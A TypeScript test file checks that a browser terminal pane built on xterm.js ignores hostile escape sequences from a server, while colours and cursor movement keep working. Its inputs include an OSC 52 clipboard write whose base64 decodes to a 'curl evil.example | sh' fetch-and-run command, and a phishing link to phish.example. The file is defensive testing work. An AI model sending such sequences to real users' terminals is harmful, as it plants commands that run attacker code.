// What a hostile server sends to a terminal: only colours and cursor movement act on it. Each
// sequence goes through the whole browser path (line discipline, RemoteText, xterm.js's parser)
// on @xterm/headless, and the test looks for its effect where xterm.js would show it.
import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { Terminal } from "@xterm/headless";
import { describe, expect, test } from "vitest";
import { telnet } from "./headless-telnet";
import { ALLOWED_CSI, ALLOWED_ESC, BLOCKED_OSC, allowSafeSequencesOnly } from "./safe-sequences";

// xterm.js internals, read by these tests only: the parser's handler tables and a few states the
// public API does not show.
interface Internals {
  _core: {
    coreService: { isCursorHidden: boolean };
    _oscLinkService: { _dataByLinkId: Map<number, unknown> };
    _inputHandler: {
      _parser: {
        identToString(id: number): string;
        _csiHandlers: Record<string, unknown[]>;
        _escHandlers: Record<string, unknown[]>;
        _oscParser: { _handlers: Record<string, unknown[]> };
        _dcsParser: { _handlers: Record<string, unknown[]> };
      };
    };
  };
}
const internals = (term: Terminal) => term as unknown as Internals;

describe("a hostile server's escape sequences are not acted on", () => {
  test("OSC 52 does not write the clipboard, even with a clipboard addon loaded", async () => {
    const t = telnet();
    const clipboardWrites: string[] = [];
    // Registered before the allow-list, as an addon loaded first would be.
    const addon = t.term.parser.registerOscHandler(52, (data) => (clipboardWrites.push(data), true));
    allowSafeSequencesOnly(t.term.parser); // the pane applies it after its addons
    await t.receive("before\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07after\x1b]52;p;eA==\x1b\\\r\n");
    expect(clipboardWrites).toEqual([]);
    expect(t.screen()).toEqual(["beforeafter"]);
    addon.dispose();
  });

  test("OSC 0, 1 and 2 do not set the window title", async () => {
    const t = telnet();
    const titles: string[] = [];
    t.term.onTitleChange((title) => titles.push(title));
    await t.receive("\x1b]0;pwned\x07\x1b]1;icon\x07\x1b]2;title\x1b\\hi\r\n");
    expect(titles).toEqual([]);
    expect(t.screen()).toEqual(["hi"]);
  });

  test("OSC 8 makes no link: the text shows, plain", async () => {
    const t = telnet();
    await t.receive("\x1b]8;;https://phish.example/login\x07Your grade\x1b]8;;\x07\r\n");
    expect(t.screen()).toEqual(["Your grade"]);
    expect(internals(t.term)._core._oscLinkService._dataByLinkId.size).toBe(0);
  });

  test("colour and mode queries get no answer typed into the connection", async () => {
    const t = telnet();
    const queries = ["\x1b[6n", "\x1b[5n", "\x1b[c", "\x1b[>c", "\x1b[?6n", "\x1b[?1$p", "\x1b[4$p", "\x1bP$qm\x1b\\", "\x1b]10;?\x07", "\x1b]11;?\x07", "\x1b]4;1;?\x07", "\x1b[18t", "\x1b[14t"];
    const answers: string[] = [];
    t.term.onData((data) => answers.push(data));
    for (const query of queries) await t.receive(query);
    expect(answers).toEqual([]);
    expect(t.sent).toEqual([]);
  });

  test("modes that change what the keyboard and mouse send stay off, and typing still edits the line", async () => {
    const t = telnet();
    const before = { ...t.term.modes };
    // application cursor keys, application keypad, mouse tracking (4 kinds), focus events,
    // bracketed paste, insert mode, origin mode, autowrap off; in 7-bit and 8-bit (C1) CSI.
    await t.receive("\x1b[?1h\x1b=\x1b[?1000h\x1b[?1002h\x1b[?1003h\x1b[?1006h\x1b[?1004h\x1b[?2004h\x1b[4h\x1b[?6h\x1b[?7l\u009b?1h\u009b?1000h");
    expect(t.term.modes).toEqual(before);
    await t.type("ab", "\x1b[D", "X", "\r");
    expect(t.sent).toEqual(["aXb\r\n"]);
  });

  test("no alternate screen, hidden cursor, reset, scroll region or scrollback erase", async () => {
    const t = telnet(40, 4);
    for (let i = 1; i <= 6; i++) await t.receive(`line ${i}\r\n`);
    await t.receive("\x1b[?1049h\x1b[?47h\x1b[?25l\x1b[2;3r\x1b[3J\x1bc\x1b[!p\x1b[2 q");
    expect(t.term.buffer.active.type).toBe("normal");
    expect(internals(t.term)._core.coreService.isCursorHidden).toBe(false);
    expect(t.term.buffer.active.length).toBeGreaterThan(4); // the scrollback is kept
    expect(t.screen().slice(0, 6)).toEqual(["line 1", "line 2", "line 3", "line 4", "line 5", "line 6"]);
    expect(t.term.options.cursorStyle ?? "block").toBe("block");
  });

  test("no charset switch turns letters into line drawing, and DECALN does not fill the screen", async () => {
    const t = telnet(20, 4);
    await t.receive("\x1b(0qqq\x1b)0\x0eqqq\x0f\x1b#8\x1b%G\r\n");
    expect(t.screen()).toEqual(["qqqqqq"]);
  });
});

describe("what a chat server may do still works", () => {
  test("SGR colours, cursor movement and erasing act as before", async () => {
    const t = telnet(40, 6);
    await t.receive("\x1b[1;32mgreen\x1b[0m plain\r\n");
    await t.receive("abcdef\x1b[3D\x1b[K!\r\n\x1b[1;1H*");
    expect(t.screen()).toEqual(["*reen plain", "abc!"]);
    const cell = t.term.buffer.active.getLine(0)!.getCell(1)!;
    expect(cell.getFgColor()).toBe(2);
    expect(cell.isBold()).toBeTruthy();
  });
});

describe("the allow-list covers xterm.js", () => {
  test("every sequence xterm.js handles is either allowed or swallowed", () => {
    const plain = new Terminal({ allowProposedApi: true });
    const guarded = new Terminal({ allowProposedApi: true });
    allowSafeSequencesOnly(guarded.parser);
    const tables = (term: Terminal) => {
      const parser = internals(term)._core._inputHandler._parser;
      return { parser, csi: parser._csiHandlers, esc: parser._escHandlers, osc: parser._oscParser._handlers, dcs: parser._dcsParser._handlers };
    };
    const before = tables(plain);
    const after = tables(guarded);
    const undecided: string[] = [];
    for (const kind of ["csi", "esc", "dcs"] as const) {
      for (const [id, handlers] of Object.entries(before[kind])) {
        const name = before.parser.identToString(Number(id));
        const allowed = kind === "csi" ? ALLOWED_CSI.has(name) : kind === "esc" && ALLOWED_ESC.has(name);
        const swallowed = (after[kind][id]?.length ?? 0) > handlers.length;
        if (!allowed && !swallowed) undecided.push(`${kind} ${JSON.stringify(name)}`);
      }
    }
    for (const ident of Object.keys(before.osc)) if (!BLOCKED_OSC.includes(Number(ident))) undecided.push(`osc ${ident}`);
    expect(undecided).toEqual([]);
    plain.dispose();
    guarded.dispose();
  });

  test("every file that makes an xterm.js terminal applies the allow-list", () => {
    const makers = readdirSync("app", { recursive: true, encoding: "utf8" })
      .filter((file) => /\.tsx?$/.test(file) && !file.endsWith(".test.ts"))
      .filter((file) => /new Terminal\(/.test(readFileSync(join("app", file), "utf8")));
    expect(makers.length).toBeGreaterThan(0);
    for (const file of makers) expect(readFileSync(join("app", file), "utf8"), file).toMatch(/allowSafeSequencesOnly\(\w+\.parser\)/);
  });
});
